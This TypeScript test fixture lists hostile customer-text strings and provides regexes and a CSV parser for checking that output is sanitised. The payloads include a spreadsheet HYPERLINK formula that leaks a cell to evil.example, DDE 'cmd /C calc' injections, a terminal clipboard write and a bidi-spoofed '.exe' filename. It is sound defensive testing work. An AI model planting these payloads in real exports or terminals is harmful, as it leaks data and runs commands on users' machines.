/**
 * Customer text an attacker would send, one string per trick: terminal escapes (CSI, OSC 8 links, OSC 52
 * clipboard writes, DCS/APC/PM/SOS, their 8-bit C1 forms), bare controls, bidi overrides and isolates, zero-width
 * and invisible separators, line breaks in one-line fields, and spreadsheet formulas.
 */
export const hostileStrings: readonly string[] = [
	'\u001B[2J\u001B[Hcleared',
	'\u001B[31mred\u001B[0m',
	'\u001B[1;1H\u001B[Kmoved',
	'\u001B[?1049hswitch screen',
	'\u001B[6nreport cursor',
	'\u001B]8;;https://evil.example\u0007click\u001B]8;;\u0007',
	'\u001B]8;;https://evil.example\u001B\\click\u001B]8;;\u001B\\',
	'\u001B]52;c;ZXZpbA==\u0007paste',
	'\u001B]0;fake title\u0007title',
	'\u001B]0;unterminated title',
	'\u001BP+q544e\u001B\\dcs',
	'\u001B_apc payload\u001B\\apc',
	'\u001B^pm payload\u001B\\pm',
	'\u001BXsos payload\u001B\\sos',
	'\u001Bcreset',
	'\u001B7save\u001B8restore',
	'\u009B31mc1 csi',
	'\u009D8;;https://evil.example\u009Cc1 osc',
	'\u0090c1 dcs\u009C',
	'\u009Fc1 apc\u009C',
	'\u0085next line',
	'\u0007bell',
	'back\u0008\u0008\u0008space',
	'nul\u0000byte',
	'del\u007Fete',
	'vertical\u000Btab',
	'form\u000Cfeed',
	'shift\u000Eout\u000Fin',
	'\u001Aeof',
	'refund_form_\u202Efdp.exe',
	'\u202Dleft override',
	'\u202Aleft embedding\u202C',
	'\u202Bright embedding\u202C',
	'\u2066isolate\u2069',
	'\u2067rtl isolate\u2069',
	'\u2068first strong\u2069',
	'arabic\u061Cmark',
	'\u200Frtl mark',
	'\u200Eltr mark',
	'zero\u200Bwidth',
	'zero\u200Cnon\u200Djoiner',
	'word\u2060joiner',
	'\uFEFFbom',
	'Refund approved\u2028DENIED',
	'Refund approved\u2029DENIED',
	'Refund approved\nDENIED',
	'Refund approved\r\nDENIED',
	'Refund approved\rDENIED',
	'=HYPERLINK("https://evil.example?leak="&A1,"Click")',
	"=cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'\uFF1D1+1',
	'\uFF0B1',
	"'=1+1",
	'" ,\n"=1+1',
	'\u001B[31m=1+1',
];

/** Characters that must never reach a terminal or a spreadsheet cell from customer text (tab and LF are kept). */
export const unsafeOutput =
	/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200B-\u200F\u2028-\u202E\u2060-\u2069\uFEFF]/;

/** A cell a spreadsheet would run as a formula. */
export const formulaCell = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

/** RFC 4180 reader (independent of csr's): rows of cells. Throws on a malformed quote. */
export function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let field = '';
	let quoted = false;
	let wasQuoted = false;
	for (let index = 0; index < text.length; index++) {
		const char = text[index] as string;
		if (quoted) {
			if (char === '"' && text[index + 1] === '"') {
				field += '"';
				index++;
			} else if (char === '"') quoted = false;
			else field += char;
		} else if (char === '"') {
			if (field !== '' || wasQuoted) throw new Error(`stray quote at ${index}`);
			quoted = true;
			wasQuoted = true;
		} else if (char === ',') {
			row.push(field);
			field = '';
			wasQuoted = false;
		} else if (char === '\r' && text[index + 1] === '\n') {
			index++;
			row.push(field);
			rows.push(row);
			row = [];
			field = '';
			wasQuoted = false;
		} else if (char === '\r' || char === '\n') throw new Error(`bare line break outside quotes at ${index}`);
		else field += char;
	}
	if (quoted) throw new Error('unterminated quote');
	if (field !== '' || row.length > 0) rows.push([...row, field]);
	return rows;
}
